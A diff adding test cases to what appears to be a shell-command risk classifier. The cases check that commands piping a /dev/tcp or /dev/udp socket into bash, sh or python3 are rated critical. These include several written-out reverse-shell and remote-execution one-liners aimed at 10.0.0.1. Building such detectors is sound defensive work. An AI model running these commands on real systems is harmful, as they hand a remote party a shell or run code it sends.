@@ -140,3 +140,20 @@ describe("PowerShell reading its commands from standard input", () => {
     expect(risk(command, shell), shown(command, shell)).toBe(expected);
   });
 });
+
+describe("a socket read before a shell, or named as standard input by its descriptor", () => {
+  it.each<[ShellKind, string, Risk]>([
+    // `0<` is standard input, as `<` is: the 0 is its descriptor, not a script named 0.
+    ["bash", "bash 0</dev/tcp/10.0.0.1/4444", "critical"],
+    ["bash", "sh -i 0</dev/udp/10.0.0.1/53", "critical"],
+    // bash opens a socket for /dev/tcp paths, so what reads one hands on what the peer sends.
+    ["bash", "cat /dev/tcp/10.0.0.1/4444 | bash", "critical"],
+    ["bash", "cat < /dev/tcp/10.0.0.1/4444 | sh", "critical"],
+    ["bash", "head -c 4096 /dev/udp/10.0.0.1/53 | python3", "critical"],
+    ["bash", "bash 0<install.sh", "safe"],
+    ["bash", "echo 0 > out.txt", "safe"],
+    ["bash", "cat notes.txt | wc -l", "safe"],
+  ])("%s: %s → %s", (shell, command, expected) => {
+    expect(risk(command, shell), shown(command, shell)).toBe(expected);
+  });
+});
